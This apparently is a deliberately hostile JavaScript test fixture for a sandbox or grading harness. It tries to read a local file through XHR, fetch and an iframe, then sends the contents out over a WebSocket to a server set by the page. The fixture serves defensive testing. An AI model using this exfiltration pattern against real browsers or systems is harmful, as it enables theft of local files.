// Hostile on purpose: reads a file of the grading machine from the page (XMLHttpRequest, fetch, an iframe) and
// sends what it got, so that it would come back quoted in its own report. @SECRET@ is the test's own file.
'use strict';
const statusLine = document.getElementById('status');
const ws = new WebSocket(document.body.dataset.server);
const SECRET = 'file://@SECRET@';

function tell(how, what) {
  if (ws.readyState === WebSocket.OPEN) {
    ws.send(how + ': ' + what);
  }
}

ws.onopen = () => {
  statusLine.dataset.state = 'open';
  try {
    const xhr = new XMLHttpRequest();
    xhr.open('GET', SECRET, false);
    xhr.send();
    tell('xhr', xhr.status + ' ' + xhr.responseText);
  } catch (e) {
    tell('xhr', String(e));
  }
  fetch(SECRET).then((r) => r.text()).then((t) => tell('fetch', t), (e) => tell('fetch', String(e)));
  const frame = document.createElement('iframe');
  frame.src = SECRET;
  frame.onload = () => {
    try {
      tell('iframe', frame.contentDocument.body.textContent);
    } catch (e) {
      tell('iframe', String(e));
    }
  };
  document.body.appendChild(frame);
};
ws.onclose = () => { statusLine.dataset.state = 'closed'; };
ws.onerror = () => { statusLine.dataset.state = 'error'; };
